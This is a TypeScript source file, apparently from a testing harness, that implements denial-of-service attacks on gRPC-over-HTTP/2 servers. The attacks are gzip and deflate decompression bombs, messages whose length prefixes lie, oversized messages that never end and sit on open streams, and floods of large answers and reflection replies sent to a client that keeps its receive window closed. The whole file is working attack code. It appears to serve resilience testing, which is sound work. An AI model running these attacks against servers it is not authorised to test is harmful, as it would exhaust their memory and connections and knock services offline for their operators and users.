import { deflateSync, gzipSync } from 'node:zlib';
import type { Attack, AttackResult, AttackTarget } from './attack';
import { openHttp2, pause, scaled } from './attack';
import { callHeaders, data, grpcMessage } from './http2-frames';
import type { RawConnection } from './raw-connection';

const mebibyte = 1_048_576;
const dataFrameBytes = 16_384;

interface Bomb {
  readonly encoding: string;
  readonly bytes: Buffer;
}

let made: readonly Bomb[] | undefined;

/** Compressed a thousandfold; made when they are first thrown, which takes a second. */
function bombs(): readonly Bomb[] {
  const zeroes = Buffer.alloc(16 * mebibyte);
  return (made ??= [
    { encoding: 'gzip', bytes: gzipSync(zeroes) },
    { encoding: 'deflate', bytes: deflateSync(zeroes) },
    { encoding: 'gzip', bytes: gzipSync(Buffer.alloc(256 * mebibyte)) },
  ]);
}

/** Messages that cost a server more than they cost the one who sends them. */
export const messageAttacks: readonly Attack[] = [
  {
    name: 'compressed bombs',
    run: (target: AttackTarget): Promise<AttackResult> => onManyStreams(target, 500, (stream, i) => bomb(target, stream, i)),
  },
  {
    name: 'compressed bombs in one frame',
    run: (target: AttackTarget): Promise<AttackResult> =>
      onManyStreams(target, 100, (stream) =>
        Buffer.concat([
          callHeaders(stream, target.streamPath, [['grpc-encoding', 'gzip']]),
          data(stream, Buffer.concat(Array.from({ length: 200 }, () => grpcMessage(gzipSync(Buffer.alloc(20_000)), true)))),
        ]),
      ),
  },
  {
    name: 'messages with a length that lies',
    run: (target: AttackTarget): Promise<AttackResult> =>
      onManyStreams(target, 2_000, (stream, i) => {
        const length = [0, 3, 100, 2 ** 24 + 1, 2 ** 31, 2 ** 32 - 1][i % 6] ?? 0;
        return Buffer.concat([
          callHeaders(stream, target.unaryPath),
          data(stream, grpcMessage(Buffer.alloc(20), i % 2 === 0, length), true),
        ]);
      }),
  },
  { name: 'messages that are too large', run: (target: AttackTarget): Promise<AttackResult> => largeMessages(target, 17 * mebibyte, 20) },
  { name: 'large messages that never end', run: (target: AttackTarget): Promise<AttackResult> => largeMessages(target, 15 * mebibyte, 60) },
  { name: 'answers that are not read', run: unreadAnswers },
  { name: 'reflection that is not read', run: unreadReflection },
];

function bomb({ unaryPath, streamPath }: AttackTarget, stream: number, i: number): Buffer {
  const { encoding, bytes } = bombs()[i % bombs().length] ?? { encoding: 'gzip', bytes: Buffer.alloc(0) };
  const headers = callHeaders(stream, i % 2 === 0 ? unaryPath : streamPath, [['grpc-encoding', encoding]]);
  return Buffer.concat([headers, ...inFrames(stream, grpcMessage(bytes, true))]);
}

function inFrames(stream: number, bytes: Buffer): Buffer[] {
  const frames: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += dataFrameBytes) frames.push(data(stream, bytes.subarray(at, at + dataFrameBytes)));
  return frames;
}

/** The calls are left open: what they hold is held until the connection ends. */
async function onManyStreams(target: AttackTarget, count: number, make: (stream: number, i: number) => Buffer): Promise<AttackResult> {
  const total = scaled(target, count);
  for (let done = 0; done < total;) {
    const connection = await openHttp2(target, { windowBytes: mebibyte });
    for (let stream = 1; connection.isOpen && done < total; stream += 2, done++) await connection.write(make(stream, done));
    await pause(300);
    await gone(connection);
  }
  return { inputs: total };
}

/** Each on a stream of its own, none of them ended. */
async function largeMessages(target: AttackTarget, bytes: number, count: number): Promise<AttackResult> {
  const total = scaled(target, count);
  const message = grpcMessage(Buffer.alloc(bytes));
  const connection = await openHttp2(target);
  for (let i = 0; i < total && connection.isOpen; i++) {
    const stream = 2 * i + 1;
    await connection.write(callHeaders(stream, i % 2 === 0 ? target.unaryPath : target.streamPath));
    for (const part of inFrames(stream, message)) if (connection.isOpen) await connection.write(part);
  }
  await pause(300);
  await gone(connection);
  return { inputs: total };
}

/** Large answers to a client whose window is closed. */
async function unreadAnswers(target: AttackTarget): Promise<AttackResult> {
  const { largeAnswer } = target;
  if (largeAnswer === undefined) return { inputs: 0 };
  const [count, streams] = [scaled(target, 4), scaled(target, 900)];
  const connections: RawConnection[] = [];
  for (let i = 0; i < count; i++) {
    const connection = await openHttp2(target, { windowBytes: 0, reads: i % 2 === 0 });
    connections.push(connection);
    for (let j = 0; j < streams && connection.isOpen; j++) {
      const stream = 2 * j + 1;
      await connection.write(Buffer.concat([callHeaders(stream, largeAnswer.path), data(stream, grpcMessage(largeAnswer.request), true)]));
    }
  }
  await pause(2_000);
  await Promise.all(connections.map(gone));
  return { inputs: count * streams };
}

/** Questions whose answers are a hundred times as large as they are. */
async function unreadReflection(target: AttackTarget): Promise<AttackResult> {
  const total = scaled(target, 200_000);
  const list = grpcMessage(Buffer.from([0x3a, 1, 0x2a])); // list_services = "*"
  const questions = 1_000;
  const connection = await openHttp2(target, { windowBytes: 0 });
  await connection.write(callHeaders(1, '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'));
  for (let done = 0; done < total && connection.isOpen; done += questions) {
    await connection.write(Buffer.concat(inFrames(1, Buffer.concat(Array.from({ length: questions }, () => list)))), 500);
  }
  await pause(500);
  await gone(connection);
  return { inputs: total };
}

async function gone(connection: RawConnection): Promise<void> {
  connection.destroy();
  await connection.ended;
}
